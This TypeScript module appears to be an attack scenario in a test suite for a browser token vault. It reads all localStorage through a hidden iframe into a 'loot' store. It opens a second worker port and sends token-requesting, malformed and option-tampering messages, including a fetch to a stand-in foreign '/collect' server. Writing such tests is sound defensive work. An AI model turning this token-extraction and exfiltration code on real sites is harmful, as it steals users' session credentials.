// Opens a port of its own to the vault, as any script of the origin can, and sends every kind of message.
import { count } from "../markup";
import type { Attack, Targets } from "./attack";
import { ForeignServer } from "./foreign-server";
import type { Loot } from "./loot";
import { type Overheard, overhear } from "./overheard";

const REPLY_MAX_MS = 8000;

export const secondPort: Attack = {
  id: "second-port",
  name: "Open a second port",
  method:
    "Another connection to the vault, and every kind of message sent through it; for the naive client, a new frame.",
  async run(targets, loot) {
    await targets.naive.ready();
    readFromFrame(loot);
    const naive = "A frame of the same origin has the same localStorage.";
    const overheard = await overhear(targets.options);
    if (overheard === null) return { strongroom: "There is no vault to connect to.", naive };
    const what =
      targets.client.session.isolation === "shared"
        ? "A second port to the shared vault"
        : "This tab's worker has no second port. Another worker of the same script";
    return { strongroom: `${what}: ${await converse(overheard, targets, loot)}`, naive };
  },
};

function readFromFrame(loot: Loot): void {
  const frame = document.createElement("iframe");
  frame.hidden = true;
  document.body.append(frame);
  const { localStorage } = frame.contentWindow as Window;
  for (const text of Object.values(localStorage)) loot.add(String(text), "localStorage, from a new frame");
  frame.remove();
}

interface Reply {
  type?: string;
  id?: number;
  failure?: { code?: string };
}

async function converse({ hello, start }: Overheard, { servers }: Targets, loot: Loot): Promise<string> {
  const foreign = await ForeignServer.watch(servers.foreignUrl);
  const worker = start();
  const port = worker instanceof SharedWorker ? worker.port : worker;
  const replies: Reply[] = [];
  let heard = () => {};
  port.onmessage = ({ data }: MessageEvent<Reply>) => {
    loot.add(JSON.stringify(data), "a reply of the vault");
    replies.push(data);
    heard();
  };
  /** Until such a reply has come, or none within the time. */
  const until = (isThere: () => boolean) =>
    new Promise<void>((resolve) => {
      const timer = setTimeout(resolve, REPLY_MAX_MS);
      heard = () => {
        if (!isThere()) return;
        clearTimeout(timer);
        resolve();
      };
      heard();
    });
  const has = (...types: string[]) => replies.some(({ type }) => types.includes(type ?? ""));
  const isAnswered = (id: number) => replies.some((reply) => reply.id === id);
  let sent = 0;
  const send = (message: unknown) => {
    sent += 1;
    port.postMessage(message);
  };
  // Before it has said who it is, and what nobody knows.
  for (const junk of [null, 7, "token", [], { id: 1 }]) send(junk);
  for (const type of ["getAccessToken", "token", "dump", "__proto__", "constructor"]) send({ type, id: 1 });
  send({ type: "ask", id: 1, question: "getAccessToken", given: [] });
  // The name of a lock is how the vault knows that a page is gone, which this one is not.
  const greeting = { ...hello, tab: undefined };
  send(greeting);
  await until(() => has("welcome", "refused"));

  let id = 1;
  for (const [question, ...given] of questions()) {
    id += 1;
    send({ type: "ask", id, question, given });
  }
  const { apiUrl, foreignUrl } = servers;
  for (const url of [`${apiUrl}/echo`, `${apiUrl}/redirect-cross`]) {
    id += 1;
    send(request(id, url));
  }
  const lastId = id;
  const ids = Array.from({ length: lastId - 1 }, (_, index) => index + 2);
  await until(() => has("refused") || ids.every(isAnswered));
  for (const each of ids) {
    send({ type: "pull", id: each });
    send({ type: "piece", id: each, bytes: null, isBroken: false });
    send({ type: "abort", id: each });
  }
  // The vault answers no call to a foreign server; that server says whether there was one.
  send(request(lastId + 1, `${foreignUrl}/collect`));
  send({ ...greeting, options: exposing(hello.options) });
  send({ type: "heard", kind: "online" });
  send({ type: "ping" });
  await until(() => has("pong", "refused"));
  send({ type: "bye" });
  if (worker instanceof SharedWorker) worker.port.close();
  else worker.terminate();

  const codes = new Set(replies.flatMap(({ failure }) => failure?.code ?? []));
  const refusals = codes.size === 0 ? "" : `, among them ${[...codes].join(", ")}`;
  const requests = await foreign.take(loot);
  return `${sent} messages sent, ${count(replies.length, "reply", "replies")}${refusals}. The foreign server got ${requests}.`;
}

/** Left out is what ends or replaces the session: the page may do that, and it brings no token. */
function questions(): [string, ...unknown[]][] {
  return [
    ["getAccessToken"],
    ["refresh"],
    ["completeSignIn", location.href, undefined],
    ["cleanedCallback", location.href],
    ["isStale", "{}"],
  ];
}

function request(id: number, url: string): object {
  const init = { headers: [["accept", "*/*"]], method: "GET" };
  return { type: "fetch", id, url, init, body: null };
}

function exposing(options: unknown): unknown {
  if (typeof options !== "string") return { ...(options as object), exposeAccessToken: true };
  return JSON.stringify({ ...JSON.parse(options), exposeAccessToken: true });
}
